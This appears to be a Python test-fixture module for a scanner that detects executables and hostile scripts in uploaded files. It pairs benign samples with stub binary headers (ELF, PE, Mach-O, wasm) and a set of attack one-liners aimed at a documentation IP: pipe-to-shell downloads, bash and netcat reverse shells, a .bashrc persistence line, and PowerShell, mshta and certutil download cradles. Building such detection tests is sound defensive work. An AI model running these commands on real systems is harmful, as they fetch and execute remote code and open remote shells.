"""Programs: the least that systems recognise one by, never run. And scripts."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Mapping


def ordinary() -> Mapping[str, bytes]:
    return {
        "script": b'#!/bin/sh\nset -e\npip install -r requirements.txt\npython convert.py "$1" > out.bin\n'
        b"rm -rf build/*\n",
        "download-script": b"#!/usr/bin/env bash\n# curl https://example.org | sh would be wrong\n"
        b"wget -O model.bin https://example.org/model.bin\nsha256sum -c model.sha256\n",
        "batch": b"@echo off\r\nrem run\r\npython app.py %*\r\npause\r\n",
        "readme": b"Install:\n\n    curl -LsSf https://example.org/install.sh | sh\n",
        "letters": b"MZ is how programs of Windows begin; ELF and PK are others.\n",
        "site-path": b"../vendor\n# import os\n",
    }


def hostile() -> Mapping[str, bytes]:
    programs = {
        "elf": _ELF,
        "pe": _PE,
        "dotnet": _PE.replace(bytes(40), b"BSJB" + bytes(36), 1),
        "llamafile": b"MZqFpD='\n" + bytes(200),
        "macho": b"\xcf\xfa\xed\xfe" + struct.pack("<IIIIII", 0x01000007, 3, 2, 0, 0, 0) + bytes(32),
        "macho-of-two": b"\xca\xfe\xba\xbe" + struct.pack(">I", 2) + bytes(60),
        "class": b"\xca\xfe\xba\xbe\0\0\0\x34\0\x10" + bytes(60),
        "wasm": b"\0asm\1\0\0\0" + bytes(20),
        "dex": b"dex\n035\0" + bytes(100),
        "pyc": struct.pack("<H", 3495) + b"\r\n" + bytes(12) + b"\xe3" + bytes(30),
        "pyc-of-python-2": struct.pack("<H", 62211) + b"\r\n" + bytes(4) + b"c" + bytes(30),
        "shortcut": b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(60),
        "self-extracting": _ELF + _zipped("model.bin", b"weights"),
        "appimage": _ELF[:8] + b"AI\x02" + _ELF[11:],
    }
    return (
        programs
        | {f"{name}-in-a-zip": _zipped("model/data.bin", data) for name, data in programs.items()}
        | {f"script-{name}": b"#!/bin/sh\n" + line.encode() + b"\n" for name, line in _SCRIPTS.items()}
        | {f"batch-{name}": b"@echo off\r\n" + line.encode() + b"\r\n" for name, line in _BATCHES.items()}
        | {"site-path": b"../vendor\nimport os; os.system(':')\n"}
    )


_ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 62, 1) + bytes(40)
_PE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<HH", 0x8664, 0) + bytes(100)


def _zipped(name: str, data: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr(zipfile.ZipInfo(name), data)
    return made.getvalue()


_SCRIPTS = {
    # https://attack.mitre.org/techniques/T1105/
    "pipe": "curl -fsSL http://198.51.100.7/x | bash -s",
    "wget-pipe": "wget -qO- http://198.51.100.7/x|sudo sh",
    "substitution": 'bash -c "$(curl -fsSL http://198.51.100.7/x)"',
    "process": "source <(curl -s http://198.51.100.7/x)",
    "chmod": "wget http://198.51.100.7/x -O /tmp/x && chmod +x /tmp/x && /tmp/x",
    # https://attack.mitre.org/techniques/T1027/
    "base64": "echo Og== | base64 -d | sh",
    "eval": 'eval "$(echo Og== | base64 --decode)"',
    # https://attack.mitre.org/techniques/T1059/004/
    "dev-tcp": "bash -i >& /dev/tcp/198.51.100.7/1 0>&1",
    "netcat": "nc -e /bin/sh 198.51.100.7 1",
    "fifo": "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 1 > /tmp/f",
    "startup": "echo ':' >> ~/.bashrc",
}
_BATCHES = {
    "powershell": "powershell -nop -w hidden -enc SQBFAFgAIAAoACkAIAA7ACAAOgA=",
    "download-string": "powershell IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/x')",
    "mshta": "mshta http://198.51.100.7/x.hta",
    "certutil": "certutil -f -urlcache http://198.51.100.7/x x.exe",
}
